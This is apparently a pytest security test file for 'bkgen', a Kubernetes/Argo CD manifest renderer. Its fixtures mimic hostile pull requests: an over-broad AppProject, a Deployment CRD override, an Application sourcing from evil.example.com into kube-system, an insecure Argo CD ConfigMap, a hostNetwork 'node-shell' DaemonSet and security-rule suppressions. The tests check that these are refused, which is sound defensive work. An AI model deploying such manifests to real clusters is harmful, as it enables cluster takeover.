"""A pull request that switches off its own gate or smuggles power into the cluster (#25).

One fixture per attack, run through the real `bkgen` in a subprocess against a copy of this
repository (`test_hostile`'s fixtures): each ends in one `bkgen:` line, the documented exit
code, no canary in any output and the previous `rendered/` tree byte-identical.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.security.test_hostile import CANARY, Run, _env, assert_refused, snapshot

RELEASE = "overlays/base/templates/registry-cache"


def _template(project: Path, name: str, text: str) -> None:
    (project / RELEASE / name).write_text(text)


_APPPROJECT = """apiVersion: argoproj.io/v1alpha1
kind: AppProject
metadata:
  name: bkce7-default
  namespace: argocd
  annotations:
    bkgen.io/ignore: duplicates,argocd-scope
spec:
  sourceRepos: ['*']
  destinations: [{server: '*', namespace: '*'}]
  clusterResourceWhitelist: [{group: '*', kind: '*'}]
"""


def test_an_ignore_annotation_cannot_redefine_the_appproject(project: Path, run: Run) -> None:
    before = snapshot(project)
    _template(project, "evil.yaml.j2", _APPPROJECT)
    assert_refused(
        run("render", "default"), 1, "AppProject", "[argocd-scope]", before=before, root=project
    )


_CRD = """apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata:
  name: deployments.apps
spec:
  group: apps
  names: {kind: Deployment, plural: deployments}
  scope: Namespaced
  versions:
    - name: v1
      served: true
      storage: true
      schema:
        openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: anything-goes
spec:
  notAField: true
"""


def test_a_crd_cannot_replace_the_deployment_schema(project: Path, run: Run) -> None:
    before = snapshot(project)
    _template(project, "evil.yaml.j2", _CRD)
    result = run("render", "default")
    assert_refused(result, 1, "[crd-override]", before=before, root=project)
    # and the Deployment is still checked against the real schema
    result = run("validate", "-", input=_CRD)
    assert "spec: 'selector' is a required property" in result.stdout or "notAField" in (
        result.stdout
    ), result.stdout


_APPLICATION = """apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: takeover
  namespace: argocd
spec:
  project: bkce7-default
  source: {repoURL: 'https://evil.example.com/x.git', path: ., targetRevision: HEAD}
  destination: {server: 'https://kubernetes.default.svc', namespace: kube-system}
"""


def test_a_release_cannot_emit_an_application(project: Path, run: Run) -> None:
    before = snapshot(project)
    _template(project, "evil.yaml.j2", _APPLICATION)
    assert_refused(
        run("render", "default"), 1, "[argocd-scope]", "Application", before=before, root=project
    )


_ARGOCD_CM = """apiVersion: v1
kind: ConfigMap
metadata:
  name: argocd-cmd-params-cm
  namespace: argocd
data: {server.insecure: "true"}
"""


def test_a_release_cannot_write_into_the_argocd_namespace(project: Path, run: Run) -> None:
    before = snapshot(project)
    _template(project, "evil.yaml.j2", _ARGOCD_CM)
    assert_refused(
        run("render", "default"), 1, "[argocd-scope]", "'argocd'", before=before, root=project
    )


_HOST_POD = """apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-shell
spec:
  selector: {matchLabels: {app: node-shell}}
  template:
    metadata: {labels: {app: node-shell}}
    spec:
      hostNetwork: true
      containers:
        - name: shell
          image: hub.bktencent.com/library/busybox:1.36
          resources: {requests: {cpu: 10m, memory: 16Mi}, limits: {cpu: 10m, memory: 16Mi}}
"""


def test_env_yaml_cannot_suppress_a_security_rule(project: Path, run: Run) -> None:
    before = snapshot(project)
    _template(project, "evil.yaml.j2", _HOST_POD)
    env_yaml = project / "overlays/default/env.yaml"
    env_yaml.write_text(
        env_yaml.read_text()
        + "validation:\n  suppress:\n    - {rule: host-escape, resource: '*', reason: trust me}\n"
        + "    - {rule: '*', resource: '*', reason: everything}\n"
    )
    # Said, not silently ignored: the suppression is an error at its line (exit 2).
    assert_refused(
        run("render", "default"),
        2,
        "overlays/default/env.yaml:",
        "cannot suppress security rule 'host-escape' from the tree",
        before=before,
        root=project,
    )


def _commit(project: Path) -> None:
    subprocess.run(["git", "add", "-A"], cwd=project, check=True, env=_env())
    subprocess.run(
        ["git", "-c", "user.name=T", "-c", "user.email=t@e", "commit", "-qm", "pr"],
        cwd=project,
        check=True,
        env=_env(),
    )


def test_a_pr_cannot_widen_the_policy_that_checks_it(project: Path, run: Run) -> None:
    """The PR allows hostNetwork everywhere in its own policy.yaml: under `--trusted main`
    main's policy decides, and the change is named as security-relevant."""
    before = snapshot(project)
    subprocess.run(["git", "checkout", "-qb", "pr"], cwd=project, check=True, env=_env())
    policy = project / "overlays/base/policy.yaml"
    policy.write_text(policy.read_text().replace("hostNetwork:\n", "hostNetwork:\n    - '*'\n"))
    _template(project, "evil.yaml.j2", _HOST_POD)
    _commit(project)
    assert_refused(
        run("render", "default", "--trusted", "main"),
        1,
        "[host-escape]",
        before=before,
        root=project,
    )
    (project / RELEASE / "evil.yaml.j2").unlink()
    result = run("render", "default", "--trusted", "main")
    assert result.returncode == 0, result.stderr
    assert "overlays/base/policy.yaml: security-relevant change: differs from main" in (
        result.stderr
    )


def test_validate_takes_the_policy_from_the_trusted_ref(project: Path, run: Run) -> None:
    """CI validating a committed tree: the PR widens policy.yaml and commits a host-network
    DaemonSet into rendered/. Its own policy lets it pass; `--trusted main` does not."""
    subprocess.run(["git", "checkout", "-qb", "pr"], cwd=project, check=True, env=_env())
    policy = project / "overlays/base/policy.yaml"
    policy.write_text(policy.read_text().replace("hostNetwork:\n", "hostNetwork:\n    - '*'\n"))
    planted = project / "rendered/default/releases/registry-cache/DaemonSet_node-shell.yaml"
    planted.write_text(
        _HOST_POD.replace(
            "metadata:\n  name: node-shell", "metadata:\n  name: node-shell\n  namespace: blueking"
        )
    )
    _commit(project)
    assert "[host-escape]" not in run("validate", "default").stdout
    result = run("validate", "default", "--trusted", "main")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "[host-escape]" in result.stdout and "node-shell" in result.stdout
    assert CANARY not in result.stdout + result.stderr


def test_a_pr_env_yaml_suppression_is_ignored_under_a_trusted_ref(project: Path, run: Run) -> None:
    subprocess.run(["git", "checkout", "-qb", "pr"], cwd=project, check=True, env=_env())
    env_yaml = project / "overlays/default/env.yaml"
    env_yaml.write_text(
        env_yaml.read_text()
        + "validation:\n  suppress:\n    - {rule: probes, resource: '*', reason: quiet}\n"
    )
    result = run("render", "default", "--trusted", "main")
    assert result.returncode == 0, result.stderr
    assert "overlays/default/env.yaml: security-relevant change: validation differs" in (
        result.stderr
    )


@pytest.mark.parametrize("ref", ["no-such-ref"])
def test_an_unknown_trusted_ref_is_a_usage_error(project: Path, run: Run, ref: str) -> None:
    before = snapshot(project)
    assert_refused(
        run("render", "default", "--trusted", ref),
        2,
        "unknown git ref",
        before=before,
        root=project,
    )


def test_a_literal_password_in_argocd_values_never_reaches_git(project: Path, run: Run) -> None:
    """The issue's case: bk-cmdb is rendered by Argo CD (helm-argocd) from the values bkgen
    commits, so `mongodb.password: <literal>` would be written into rendered/."""
    before = snapshot(project)
    (project / "overlays/default/bk-cmdb-custom-values.yaml.j2").write_text(
        f"mongodb:\n  password: {CANARY}\n"
    )
    assert_refused(
        run("render", "default"),
        1,
        "bk-cmdb-custom-values.yaml.j2:2",
        "mongodb.password holds a literal credential",
        before=before,
        root=project,
    )


def test_steps_and_crd_schemas_come_from_the_trusted_ref(project: Path, run: Run) -> None:
    """A PR that loosens a CRD schema and changes a step: under `--trusted main` both come
    from main, and both changes are named."""
    subprocess.run(["git", "checkout", "-qb", "pr"], cwd=project, check=True, env=_env())
    schema = project / "schemas/crds/argoproj.io/workflowtemplate-v1alpha1.json"
    schema.write_text('{"type": "object"}\n')
    step = project / "argo/coredns_hosts.py"
    step.write_text(step.read_text() + f"\nLEAK = {CANARY!r}\n")
    _commit(project)
    result = run("render", "default", "--trusted", "main")
    assert result.returncode == 0, result.stderr
    assert "argo/: security-relevant change: differs from main" in result.stderr
    assert "schemas/crds/: security-relevant change: differs from main" in result.stderr
    assert CANARY not in result.stdout + result.stderr
